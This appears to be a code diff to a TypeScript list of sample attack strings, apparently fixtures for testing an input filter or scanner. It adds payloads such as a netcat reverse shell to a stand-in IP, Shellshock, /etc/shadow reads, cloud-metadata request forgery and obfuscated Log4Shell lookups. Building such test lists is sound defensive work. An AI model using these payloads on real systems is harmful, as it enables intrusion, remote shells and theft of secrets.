@@ -29,6 +29,7 @@ export const sampleAttacks: readonly SampleAttack[] = [
     "x'; EXEC xp_cmdshell('whoami'); --",
     "admin'/*",
     "1' AND extractvalue(1, concat(0x7e, version())) -- -",
+    "' OR 1=1 LIMIT 1 INTO OUTFILE '/tmp/x' -- -",
   ),
   ...of(
     'cross-site scripting',
@@ -38,6 +39,7 @@ export const sampleAttacks: readonly SampleAttack[] = [
     'javascript:alert(document.domain)',
     '<iframe src="javascript:alert(1)"></iframe>',
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<body onload=alert(1)>',
   ),
   ...of(
     'command',
@@ -47,6 +49,8 @@ export const sampleAttacks: readonly SampleAttack[] = [
     '`curl http://192.0.2.1/x`',
     '& powershell -enc SQBFAFgA',
     '|| ping -c 3 192.0.2.1',
+    '; nc -e /bin/sh 192.0.2.1 4444',
+    '() { :; }; /bin/bash -c id',
   ),
   ...of(
     'file',
@@ -56,6 +60,7 @@ export const sampleAttacks: readonly SampleAttack[] = [
     '/proc/self/environ',
     'file:///etc/passwd',
     '.git/config',
+    '/etc/shadow',
   ),
   ...of(
     'PHP',
@@ -63,23 +68,27 @@ export const sampleAttacks: readonly SampleAttack[] = [
     'php://filter/convert.base64-encode/resource=index.php',
     'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
     'eval(base64_decode("cGhwaW5mbygpOw=="));',
+    '${@system(id)}',
   ),
   ...of(
     'template',
     '{{7*7}}{{config.items()}}',
     '${T(java.lang.Runtime).getRuntime().exec("id")}',
     '<%= system("id") %>',
+    '#{7*7}',
   ),
   ...of(
     'request forgery',
     'http://169.254.169.254/latest/meta-data/',
     'http://127.0.0.1:22/',
     'gopher://127.0.0.1:6379/_INFO',
+    'http://metadata.google.internal/computeMetadata/v1/',
   ),
   ...of(
     'Java',
     '${jndi:ldap://192.0.2.1/a}',
     'java.lang.ProcessBuilder',
-    '%{(#_memberAccess["allowStaticMethodAccess"]=true)}',
+    '%{(#rt=@java.lang.Runtime@getRuntime()).exec("id")}',
+    '${${lower:j}ndi:ldap://192.0.2.1/a}',
   ),
 ];
